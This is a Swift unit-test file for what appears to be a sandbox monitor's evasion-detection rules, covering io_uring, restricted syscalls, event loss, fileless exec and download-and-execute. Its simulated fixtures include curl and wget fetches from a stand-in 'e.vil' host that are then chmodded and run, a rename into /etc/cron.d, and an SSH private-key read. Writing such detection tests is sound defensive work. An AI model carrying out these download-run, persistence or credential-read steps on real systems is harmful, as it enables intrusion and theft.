import XCTest
@testable import TetherCore

/// Evasion rules.
final class EvasionRuleTests: XCTestCase {
    func testIoUring() {
        check("evasion.io_uring", fire: [
            R("io_uring_setup", E.simple(.ioUring, result: 5) { $0.entries = 64 }),
            R("io_uring_setup refused by seccomp (EPERM): the attempt is the finding", E.simple(.ioUring, result: -1)),
        ], quiet: [
            R("io_uring_setup failing otherwise (EINVAL)", E.simple(.ioUring, result: -22)),
            R("ordinary reads", E.open("/home/dev/proj/a.txt")),
        ])
    }

    func testRestrictedSyscall() {
        var sigsys = E.exit(100)
        sigsys.exitCode = nil
        sigsys.signal = 31
        var killed = E.exit(100)
        killed.exitCode = nil
        killed.signal = 9
        check("evasion.restricted_syscall", fire: [
            R("open_by_handle_at, used", E.simple(.restricted, result: 3) { $0.syscall = 304 }),
            R("process_vm_writev, refused", E.simple(.restricted, result: -1) { $0.syscall = 311 }),
            R("kexec_load, failed otherwise", E.simple(.restricted, result: -22) { $0.syscall = 246 }),
            R("killed by SIGSYS (a 32-bit syscall under Tether's filter)", sigsys),
        ], quiet: [
            R("an ordinary exit", E.exit(100)),
            R("killed by SIGKILL", killed),
            R("ordinary reads", E.open("/home/dev/proj/a.txt")),
        ])
        XCTAssertEqual(SyscallName.of(304), "open_by_handle_at")
        XCTAssertEqual(SyscallName.of(425), "io_uring_setup")
        XCTAssertNil(SyscallName.of(0), "read has no handler")
    }

    func testEventLoss() {
        check("evasion.event_loss", fire: [
            R("the kernel lost this session's open records", E.simple(.loss, result: 0) { $0.lost = 812; $0.op = "open" }),
            R("a count the decoder could not name the kind of", E.simple(.loss, result: 0) { $0.lost = 1; $0.op = "kind 999" }),
        ], quiet: [
            R("ordinary reads", E.open("/home/dev/proj/a.txt")),
            R("an ordinary exit", E.exit(100)),
        ])
        XCTAssertEqual(EvasionEventLoss.definition.severity, .high)
        XCTAssertEqual(EvasionEventLoss.definition.action, .stop, "fail closed: a blinded session waits for a person")
    }

    func testHiddenEnvironment() {
        var padded = E.exec("/usr/bin/ssh", ["ssh", "host"], pid: 250, env: ["HOME=/home/dev"])
        padded.envIncomplete = true
        var cut = E.exec("/usr/bin/make", ["make"], pid: 251, env: ["HOME=/home/dev"])
        cut.envCut = true
        check("evasion.hidden_environment", fire: [
            R("an environment the kernel could not read whole", padded),
        ], quiet: [
            R("a variable too long to keep (its name was seen)", cut),
            R("an ordinary exec", E.exec("/usr/bin/make", ["make"], env: ["HOME=/home/dev"])),
        ])
        // and a program whose environment was not read whole is nobody's credential tool
        let s = Row("ssh past a padded environment", [padded, E.open("/home/dev/.ssh/id_ed25519", pid: 250)]).run()
        XCTAssertTrue(s.rules().contains("escape.credentials"), "\(s.rules())")
    }

    func testUnresolvedPath() {
        var gone = E.rename("/home/dev/proj/job", "/proc/4242/cwd/job")
        gone.newRequested = "/proc/4242/cwd/job"
        gone.pathUnresolved = true
        var failed = gone
        failed.result = -2
        var resolved = E.rename("/home/dev/proj/job", "/home/dev/proj/job2")
        resolved.newRequested = "/proc/self/cwd/job2"
        // a second thread rewrote the call's string while it ran (the kernel compared)
        var raced = E.rename("/home/dev/proj/job", "/home/dev/proj/job.txt")
        raced.pathRaced = true
        var racedFailed = raced
        racedFailed.result = -2
        // its flags at entry and at exit, together: a write either way
        var racedHow = E.open("/home/dev/proj/a.txt", "w")
        racedHow.pathRaced = true
        check("evasion.unresolved_path", fire: [
            R("a rename through a /proc link of a process that is gone", gone),
            R("a rename whose destination was rewritten while it ran", raced),
            R("an openat2 whose flags were rewritten while it ran", racedHow),
        ], quiet: [
            R("the same, failed (nothing landed)", failed),
            R("a raced rename that failed", racedFailed),
            R("a /proc/self spelling the kernel resolved", resolved),
            R("ordinary reads", E.open("/home/dev/proj/a.txt")),
        ])
    }

    func testUnverifiedPath() {
        // a string that was not in memory when the call began: nothing to compare it with
        var unverified = E.rename("/home/dev/proj/job", "/home/dev/proj/job.txt")
        unverified.pathUnverified = true
        var failed = unverified
        failed.result = -2
        var both = unverified
        both.pathRaced = true
        check("evasion.unverified_path", fire: [
            R("a rename whose destination could not be read at its entry", unverified),
        ], quiet: [
            R("the same, failed (nothing landed)", failed),
            R("a raced one: evasion.unresolved_path's", both),
            R("an ordinary rename", E.rename("/home/dev/proj/a", "/home/dev/proj/b")),
        ])
    }

    func testUnplacedDestination() {
        // the kernel stopped at a symlink it cannot follow; user space placed it afterwards
        var unplaced = E.rename("/home/dev/proj/job", "/etc/cron.d/job")
        unplaced.guardActions = [.unresolved]
        unplaced.newRequested = "/home/dev/proj/d/job"
        var lexical = E.rename("/home/dev/proj/job", "/home/dev/proj/d/job")
        lexical.guardActions = [.unresolved]
        var failed = lexical
        failed.result = -2
        var raced = lexical
        raced.pathRaced = true
        var mkdir = E.simple(.mkdir) { $0.path = "/home/dev/proj/d/sub" }
        mkdir.guardActions = [.unresolved]
        check("evasion.unplaced_destination", fire: [
            R("a rename the kernel could not place, found in /etc/cron.d afterwards", unplaced),
            R("one user space placed where it was spelled", lexical),
            R("a mkdir through such a symlink", mkdir),
        ], quiet: [
            R("the same, failed (nothing landed)", failed),
            R("a raced one: evasion.unresolved_path's", raced),
            R("an ordinary rename the kernel placed", E.rename("/home/dev/proj/a", "/home/dev/proj/b")),
        ])
    }

    func testFileless() {
        var deleted = E.exec("/tmp/x (deleted)", ["x"])
        deleted.pathDeleted = true
        check("evasion.fileless", fire: [
            R("exec of a memfd", E.simple(.memfd, result: 3) { $0.name = "x" }, E.exec("/memfd:x (deleted)", ["x"])),
            R("exec of a deleted file", deleted),
        ], quiet: [
            R("memfd without exec (JITs, wayland)", E.simple(.memfd, result: 3) { $0.name = "v8" }),
            R("ordinary exec", E.exec("/usr/bin/ls", ["ls"])),
        ])
    }

    func testDownloadExec() {
        check("evasion.download_exec", fire: [
            R("curl -o, chmod, run", E.exec("/usr/bin/curl", ["curl", "-o", "/tmp/x", "https://e.vil/x"], pid: 200),
              E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/x", pid: 200), E.exit(200),
              E.chmod("/tmp/x", 0o755), E.exec("/tmp/x", ["/tmp/x"], pid: 201)),
            // The shell opens the redirect target before exec'ing curl in the same pid.
            R("shell redirect, then curl in the same pid", E.write("/tmp/y.sh", pid: 200),
              E.exec("/usr/bin/curl", ["curl", "https://e.vil/y"], pid: 200), E.connect("203.0.113.5", 443, pid: 200),
              E.exec("/bin/sh", ["sh", "/tmp/y.sh"], pid: 201)),
            R("relative script path", E.exec("/usr/bin/wget", ["wget", "https://e.vil/z"], pid: 200),
              E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/z.py", pid: 200),
              E.exec("/usr/bin/python3", ["python3", "z.py"], pid: 201, cwd: "/tmp")),
            R("planted outside every writable root and chmodded", E.write("/opt/tool/run"), E.chmod("/opt/tool/run", 0o755),
              E.exec("/opt/tool/run", ["run"], pid: 201)),
            R("fetched, renamed, run", E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/dl.part", pid: 200),
              E.rename("/tmp/dl.part", "/tmp/dl", pid: 200), E.exec("/tmp/dl", ["dl"], pid: 201)),
        ], quiet: [
            R("go run builds in /tmp and runs", E.write("/tmp/go-build1/b001/exe/main", pid: 200, mode: 0o755),
              E.exec("/tmp/go-build1/b001/exe/main", ["main"], pid: 201)),
            R("test writes a script to /tmp, chmods and runs it", E.write("/tmp/t/run.sh"), E.chmod("/tmp/t/run.sh", 0o755),
              E.exec("/tmp/t/run.sh", ["/tmp/t/run.sh"], pid: 201)),
            R("downloaded into the workspace and run", E.connect("203.0.113.5", 443, pid: 200),
              E.write("/home/dev/proj/tools/x", pid: 200), E.exec("/home/dev/proj/tools/x", ["x"], pid: 201)),
            R("downloaded, deleted, other file run", E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/a", pid: 200),
              E.unlink("/tmp/a"), E.exec("/usr/bin/ls", ["ls"], pid: 201)),
            R("python -c is not a script file", E.connect("203.0.113.5", 443, pid: 200), E.write("/tmp/a.py", pid: 200),
              E.exec("/usr/bin/python3", ["python3", "-c", "print(1)"], pid: 201)),
        ])
    }
}
